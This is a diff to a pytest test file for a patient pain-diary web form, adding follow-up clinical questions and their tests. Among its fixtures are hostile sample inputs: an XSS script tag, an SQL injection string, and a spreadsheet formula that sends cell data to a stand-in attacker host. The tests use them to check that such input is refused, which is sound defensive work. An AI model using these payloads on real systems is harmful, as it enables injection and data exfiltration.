@@ -1,14 +1,20 @@
 """POST /diary/: the patient's entry form, with every rule of docs/clinical.md §4."""
 
+import html as htmllib
+import re
 import uuid
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from diary.data.models import AuditEvent, Entry
+from diary.clinical import vocab
+from diary.data.db import db
+from diary.data.models import AuditEvent, Entry, Patient
 from tests.conftest import sign_in
 from tests.web.helpers import (
     FULL_ENTRY,
+    NOW,
+    add_entry,
     audit_rows,
     checked_value,
     checked_values,
@@ -21,6 +27,7 @@ from tests.web.helpers import (
     post_entry,
     textarea_value,
 )
+from tests.web.test_patient_list import add_block
 
 BIG = "9" * 10_000
 SCRIPT = "<script>alert(1)</script>"
@@ -28,6 +35,11 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 SQL = "'; DROP TABLE entry;--"
 
 pytestmark = pytest.mark.usefixtures("fixed_now")
+
+# The follow-up answers (docs/clinical.md §7, §8): shown on the page when the form holds them,
+# whoever the patient is.
+FOLLOW_UP = {"touch_pain": "mild", "night_rest_pain": "yes", "wound": "healing",
+             "pgic": "much_better"}
 
 
 def test_the_form_offers_a_fresh_id_the_time_now_and_the_patients_unit(as_patient):
@@ -41,7 +53,7 @@ def test_the_form_offers_a_fresh_id_the_time_now_and_the_patients_unit(as_patien
 
 
 def test_every_field_is_saved(as_patient, app, world):
-    response = post_entry(as_patient, **FULL_ENTRY)
+    response = post_entry(as_patient, **FULL_ENTRY, **FOLLOW_UP)
     assert response.status_code == 302
     assert response.headers["Location"].endswith("/diary/history")
     [entry] = entries(app)
@@ -55,6 +67,8 @@ def test_every_field_is_saved(as_patient, app, world):
     assert entry.side_effects == "back_soreness;leg_numbness"
     assert entry.rescue_medication is True
     assert entry.notes == FULL_ENTRY["notes"]
+    assert (entry.touch_pain, entry.night_rest_pain, entry.wound, entry.pgic) == (
+        "mild", True, "healing", "much_better")
     assert entry.deleted_at is None
     assert "Saved. Thank you." in as_patient.get("/diary/history").get_data(as_text=True)
 
@@ -66,6 +80,7 @@ def test_pain_and_time_alone_are_enough(as_patient, app):
     assert entry.temp_treated_c is entry.temp_other_c is entry.colour is entry.feels is None
     assert entry.walk_pain_free_min is entry.walk_max_min is None
     assert entry.swelling is entry.sweating is None
+    assert entry.touch_pain is entry.night_rest_pain is entry.wound is entry.pgic is None
     assert (entry.side_effects, entry.notes, entry.rescue_medication) == ("", "", False)
 
 
@@ -138,6 +153,20 @@ BAD = [
     ("swelling", FORMULA, "Please choose one of the answers shown."),
     ("swelling", SQL, "Please choose one of the answers shown."),
     ("sweating", "drenched", "Please choose one of the answers shown."),
+    ("touch_pain", "severe", "Please choose one of the answers shown."),
+    ("touch_pain", "A little", "Please choose one of the answers shown."),
+    ("touch_pain", SCRIPT, "Please choose one of the answers shown."),
+    ("night_rest_pain", "maybe", "Please choose one of the answers shown."),
+    ("night_rest_pain", "true", "Please choose one of the answers shown."),
+    ("night_rest_pain", "1", "Please choose one of the answers shown."),
+    ("night_rest_pain", "yes\x00", "Please choose one of the answers shown."),
+    ("wound", "gangrene", "Please choose one of the answers shown."),
+    ("wound", FORMULA, "Please choose one of the answers shown."),
+    ("wound", BIG, "Please choose one of the answers shown."),
+    ("pgic", "much better", "Please choose one of the answers shown."),
+    ("pgic", "3", "Please choose one of the answers shown."),
+    ("pgic", SQL, "Please choose one of the answers shown."),
+    ("pgic", SCRIPT, "Please choose one of the answers shown."),
     ("side_effects", ["headache"], "Please tick only the answers shown."),
     ("side_effects", ["bruising", SCRIPT], "Please tick only the answers shown."),
     ("side_effects", ["x" * 10_000], "Please tick only the answers shown."),
@@ -186,7 +215,7 @@ def _id(case):
 @pytest.mark.parametrize(("field", "value", "message"), BAD, ids=[_id(c) for c in BAD])
 def test_bad_input_is_refused_beside_its_field_and_nothing_is_stored(
         as_patient, app, field, value, message):
-    data = new_entry_data(as_patient, **FULL_ENTRY)
+    data = new_entry_data(as_patient, **FULL_ENTRY, **FOLLOW_UP)
     if value is None:
         data.pop(field, None)
     else:
@@ -208,7 +237,7 @@ def _assert_kept(html, data, but):
                  "observed_at", "client_id"):
         if name != but:
             assert input_value(html, name) == data[name].strip(), name
-    for name in ("pain", "colour", "feels", "swelling", "sweating", "temp_unit"):
+    for name in ("pain", "colour", "feels", "swelling", "sweating", "temp_unit", *FOLLOW_UP):
         if name != but:
             assert checked_value(html, name) == data[name], name
     if but != "notes":
@@ -334,3 +363,268 @@ def test_every_saved_entry_is_counted_once(as_patient, world):
     for pain in ("1", "2", "3"):
         assert post_entry(as_patient, pain=pain).status_code == 302
     assert world.count(Entry) == 3
+
+
+# ------------------------------------------- the follow-up questions (§7, §8) and their prompts
+
+LIMB_QUESTION = "Did pain in your leg wake you last night, or make you hang your leg down?"
+WOUND_WORDS = ["No wound", "Yes, healing", "Yes, no change", "Yes, worse", "Yes, a new one"]
+PGIC_QUESTION = "Since your block, the pain in your leg is…"
+PGIC_ASKED = "Asked today: tap the answer closest to how it is."
+LIMB_ASKED = "Asked today: we ask this once a week."
+
+
+def question(html: str, name: str) -> tuple[str, str | None, list[str]] | None:
+    """(question, hint, answers in words) of the radio buttons called `name`; None if the page
+    does not ask it."""
+    for box in re.findall(r"<fieldset.*?</fieldset>", html, re.S):
+        if f'name="{name}"' in box:
+            legend = re.search(r"<legend>(.*?)</legend>", box, re.S).group(1)
+            hint = re.search(r'<p class="hint">(.*?)</p>', box, re.S)
+            words = re.findall(r'<label class="option">.*?<span>(.*?)</span>', box, re.S)
+            return (htmllib.unescape(legend), hint and htmllib.unescape(hint.group(1)),
+                    [htmllib.unescape(w) for w in words])
+    return None
+
+
+def prompt_box(html: str) -> str:
+    found = re.search(r'<aside class="prompt".*?</aside>', html, re.S)
+    text = re.sub(r"<[^>]+>", " ", found.group(0)) if found else ""
+    return " ".join(htmllib.unescape(text).split())
+
+
+def as_sent(html: str) -> dict:
+    """What the browser sends for the form as the page shows it (nothing changed)."""
+    data: dict = {}
+    form = re.search(r'<form method="post" novalidate class="entry">.*?</form>', html, re.S)
+    for tag in re.findall(r"<input[^>]*>", form.group(0)):
+        name = re.search(r'\bname="([^"]*)"', tag).group(1)
+        value = re.search(r'\bvalue="([^"]*)"', tag)
+        value = htmllib.unescape(value.group(1)) if value else ""
+        kind = re.search(r'\btype="([^"]*)"', tag).group(1)
+        if kind == "checkbox":
+            if re.search(r"\bchecked\b", tag):
+                data.setdefault(name, []).append(value)
+        elif kind != "radio" or re.search(r"\bchecked\b", tag):
+            data[name] = value
+    data["notes"] = textarea_value(html, "notes")
+    return data
+
+
+@pytest.fixture
+def patient_with(app, as_patient, world):
+    """The signed-in patient with the given treated side and condition, and blocks a number
+    of days from now (negative: done)."""
+    def make(side="left", condition="crps", blocks=()):
+        with app.app_context():
+            patient = db.session.get(Patient, world.patient_id)
+            patient.treated_side, patient.condition = side, condition
+            db.session.commit()
+        for days, kind in blocks:
+            add_block(app, world.patient_id, NOW + timedelta(days=days), kind=kind)
+        return as_patient
+    return make
+
+
+def test_touch_pain_is_asked_on_every_entry_in_plain_words(as_patient, app):
+    html = entry_page(as_patient)
+    assert question(html, "touch_pain") == (
+        "Does light touch on your foot hurt (socks, bedsheets)?", None,
+        ["No", "A little", "A lot"])
+    assert option_values(html, "touch_pain") == list(vocab.TOUCH_PAIN)
+    assert checked_value(html, "touch_pain") is None
+    # A CRPS patient without a neurolysis, and no prompt asking: nothing else is asked.
+    assert question(html, "night_rest_pain") is question(html, "wound") is None
+    assert question(html, "pgic") is None
+    for code in vocab.TOUCH_PAIN:
+        assert post_entry(as_patient, pain="4", touch_pain=code).status_code == 302
+    assert [e.touch_pain for e in entries(app)] == list(vocab.TOUCH_PAIN)
+
+
+@pytest.mark.parametrize(("side", "foot"), [
+    ("left", "your left foot"), ("right", "your right foot"), ("both", "either foot")])
+def test_the_wound_question_names_the_treated_foot(patient_with, app, side, foot):
+    client = patient_with(side=side, condition="pad_clti")
+    html = entry_page(client)
+    assert question(html, "night_rest_pain") == (LIMB_QUESTION, None, ["Yes", "No"])
+    assert question(html, "wound") == (f"Is there a sore or wound on {foot}?", None, WOUND_WORDS)
+    assert option_values(html, "wound") == list(vocab.WOUND)
+    assert checked_value(html, "night_rest_pain") is checked_value(html, "wound") is None
+    assert post_entry(client, pain="5", wound="healing").status_code == 302
+    edit = entry_page(client, f"/diary/entries/{entries(app)[0].id}/edit")
+    assert question(edit, "wound")[0] == f"Is there a sore or wound on {foot}?"
+
+
+@pytest.mark.parametrize(("condition", "blocks", "asked"), [
+    ("crps", [], False),
+    ("crps", [(-40, "diagnostic_la"), (-10, "therapeutic_la")], False),
+    ("crps", [(2, "neurolysis")], False),             # booked, not yet done
+    ("crps", [(-20, "neurolysis")], True),
+    ("neuropathic", [(-300, "radiofrequency"), (-5, "diagnostic_la")], True),
+    ("other", [(-1, "radiofrequency")], True),
+    ("pad_clti", [], True),
+    ("pad_clti", [(-3, "diagnostic_la")], True),
+])
+def test_the_limb_questions_are_for_limb_ischaemia_and_after_neurolysis_or_rf(
+        patient_with, app, condition, blocks, asked):
+    client = patient_with(condition=condition, blocks=blocks)
+    html = entry_page(client)
+    assert (question(html, "night_rest_pain") is not None) is asked
+    assert (question(html, "wound") is not None) is asked
+    assert question(html, "touch_pain") is not None
+
+
+@pytest.mark.parametrize(("typed", "stored"), [
+    ({"night_rest_pain": "yes"}, (True, None)),
+    ({"night_rest_pain": "no", "wound": "worse"}, (False, "worse")),
+    ({"wound": "none"}, (None, "none")),
+    ({"wound": "new"}, (None, "new")),
+    ({}, (None, None)),                               # not answered stays empty
+    ({"night_rest_pain": "", "wound": ""}, (None, None)),
+])
+def test_the_limb_answers_are_saved(patient_with, app, typed, stored):
+    client = patient_with(condition="pad_clti")
+    assert post_entry(client, pain="6", **typed).status_code == 302
+    [entry] = entries(app)
+    assert (entry.night_rest_pain, entry.wound) == stored
+
+
+def test_the_weekly_limb_questions_are_marked_on_the_day_they_are_asked(patient_with, app,
+                                                                       world, clock):
+    # A neurolysis 14 days ago: today's daily reading asks them.
+    client = patient_with(blocks=[(-14, "neurolysis")])
+    html = entry_page(client)
+    assert question(html, "night_rest_pain") == (LIMB_QUESTION, LIMB_ASKED, ["Yes", "No"])
+    assert question(html, "wound")[1] == LIMB_ASKED
+    assert ("Next reading due by 20:00 — day 14 after your block (once a day until week 4). "
+            "Also: your leg at night and your foot.") in prompt_box(html)
+    assert question(html, "pgic") is None
+    # Once today's reading is in, they are offered still, but no longer asked.
+    assert post_entry(client, pain="5", night_rest_pain="no").status_code == 302
+    html = entry_page(client)
+    assert question(html, "night_rest_pain")[1] is question(html, "wound")[1] is None
+    assert "leg at night" not in prompt_box(html)
+    # The next day they are not asked either (the next week's are on day 21).
+    clock.now = NOW + timedelta(days=1)
+    assert question(entry_page(client), "wound")[1] is None
+
+
+@pytest.mark.parametrize(("days", "asked"), [
+    (6, False), (7, True), (8, False), (27, False), (28, True), (29, False)])
+def test_pgic_is_asked_on_day_7_and_day_28(patient_with, days, asked):
+    client = patient_with(blocks=[(-days, "diagnostic_la")])
+    html = entry_page(client)
+    if asked:
+        assert question(html, "pgic") == (PGIC_QUESTION, PGIC_ASKED, list(vocab.PGIC.values()))
+        assert option_values(html, "pgic") == list(vocab.PGIC)
+        assert checked_value(html, "pgic") is None
+        assert "how your pain has changed since the block" in prompt_box(html)
+    else:
+        assert question(html, "pgic") is None
+        assert "how your pain has changed" not in prompt_box(html)
+    assert question(html, "wound") is None
+
+
+def test_pgic_after_neurolysis_at_the_checkpoint_days(patient_with, clock):
+    # Day 90 is in week 13's window (days 85-91): asked on any of those days, with the
+    # weekly limb questions; week 12 (days 78-84) asks only those.
+    client = patient_with(blocks=[(-84, "neurolysis")])
+    for days, pgic in ((84, False), (85, True), (91, True), (92, False)):
+        clock.now = NOW + timedelta(days=days - 84)
+        html = entry_page(client)
+        assert (question(html, "pgic") is not None) is pgic, days
+        assert question(html, "wound")[1] == LIMB_ASKED, days
+        assert ("how your pain has changed" in prompt_box(html)) is pgic, days
+
+
+def test_pgic_is_asked_until_answered_or_read(patient_with, app, clock):
+    client = patient_with(blocks=[(-7, "therapeutic_la")])   # day 7; PGIC is on the 20:00 slot
+    box = prompt_box(entry_page(client))
+    assert "Next reading due 12:00" in box
+    assert "Also today: how your pain has changed since the block." in box
+    # A reading without an answer this morning: still asked.
+    assert post_entry(client, pain="4").status_code == 302
+    assert question(entry_page(client), "pgic") is not None
+    # Answered at noon: asked no more today, though the 20:00 reading is still to come.
+    clock.now = NOW + timedelta(hours=1)
+    assert post_entry(client, pain="4", pgic="a_little_better").status_code == 302
+    html = entry_page(client)
+    assert question(html, "pgic") is None
+    assert "how your pain has changed" not in prompt_box(html)
+    assert [e.pgic for e in entries(app)] == [None, "a_little_better"]
+
+
+def test_pgic_is_no_longer_asked_once_its_reading_is_in(patient_with, app, clock):
+    client = patient_with(blocks=[(-7, "diagnostic_la")])
+    clock.now = NOW.replace(hour=17, minute=30)              # 18:30 in London: the 20:00 window
+    assert question(entry_page(client), "pgic") is not None
+    assert post_entry(client, pain="3").status_code == 302   # read, without an answer
+    assert question(entry_page(client), "pgic") is None
+
+
+def test_an_edit_shows_and_keeps_the_follow_up_answers(as_patient, app):
+    # A CRPS patient not asked today: the answers the entry holds are still shown and kept.
+    assert post_entry(as_patient, **FULL_ENTRY, **FOLLOW_UP).status_code == 302
+    [entry] = entries(app)
+    url = f"/diary/entries/{entry.id}/edit"
+    html = entry_page(as_patient, url)
+    for name, value in FOLLOW_UP.items():
+        assert checked_value(html, name) == value, name
+    assert question(html, "pgic")[1] is None        # shown to correct it, not asked
+    data = as_sent(html)
+    assert as_patient.post(url, data={**data, "pain": "2"}).status_code == 302
+    [entry] = entries(app)
+    assert (entry.pain, entry.touch_pain, entry.night_rest_pain, entry.wound, entry.pgic) == (
+        2, "mild", True, "healing", "much_better")
+    # Changing an answer is saved and audited like any other field.
+    html = entry_page(as_patient, url)
+    changed = {**as_sent(html), "wound": "worse", "night_rest_pain": "no", "pgic": "no_change"}
+    assert as_patient.post(url, data=changed).status_code == 302
+    [entry] = entries(app)
+    assert (entry.night_rest_pain, entry.wound, entry.pgic) == (False, "worse", "no_change")
+    last = audit_rows(app, AuditEvent.action == "entry.update")[-1]
+    assert set(last.before) == set(last.after) == {"night_rest_pain", "wound", "pgic"}
+    # A bad answer in an edit is refused beside its question and changes nothing.
+    bad = as_patient.post(url, data={**as_sent(entry_page(as_patient, url)), "wound": "gone"})
+    assert bad.status_code == 200
+    assert "Please choose one of the answers shown." in error_after(bad.get_data(as_text=True),
+                                                                    "wound")
+    assert entries(app)[0].wound == "worse"
+
+
+def test_an_edit_of_an_entry_without_them_asks_no_pgic(patient_with, app, world):
+    client = patient_with(blocks=[(-7, "diagnostic_la")])   # PGIC is asked on the new entry...
+    assert question(entry_page(client), "pgic") is not None
+    entry = add_entry(app, world.patient_id, NOW - timedelta(hours=2), pain=5)
+    url = f"/diary/entries/{entry}/edit"
+    html = entry_page(client, url)
+    assert question(html, "pgic") is None                    # ...not when correcting one
+    assert question(html, "touch_pain") is not None and question(html, "wound") is None
+    assert client.post(url, data={**as_sent(html), "pain": "3"}).status_code == 302
+    [saved] = entries(app)
+    assert (saved.pain, saved.pgic, saved.touch_pain) == (3, None, None)
+
+
+def test_the_same_form_sent_again_with_another_pgic_is_refused(as_patient, app):
+    data = new_entry_data(as_patient, pain="4", pgic="much_better")
+    assert as_patient.post("/diary/", data=data).status_code == 302
+    again = as_patient.post("/diary/", data={**data, "pgic": "no_change"})
+    assert "already sent with different answers" in error_after(again.get_data(as_text=True),
+                                                                "client_id")
+    assert [e.pgic for e in entries(app)] == ["much_better"]
+
+
+def test_follow_up_answers_kept_while_signed_out_come_back(as_patient, app):
+    page = entry_page(as_patient)
+    typed = {"client_id": input_value(page, "client_id"),
+             "observed_at": input_value(page, "observed_at"), "pain": "7", "temp_unit": "C",
+             **FOLLOW_UP, "csrf_token": "expired"}
+    assert as_patient.post("/diary/", data=typed).status_code == 400
+    again = entry_page(as_patient)
+    assert "is back" in again
+    for name, value in FOLLOW_UP.items():   # shown, though this patient is not asked them
+        assert checked_value(again, name) == value, name
+    assert as_patient.post("/diary/", data=as_sent(again)).status_code == 302
+    [entry] = entries(app)
+    assert (entry.touch_pain, entry.night_rest_pain, entry.wound, entry.pgic) == (
+        "mild", True, "healing", "much_better")
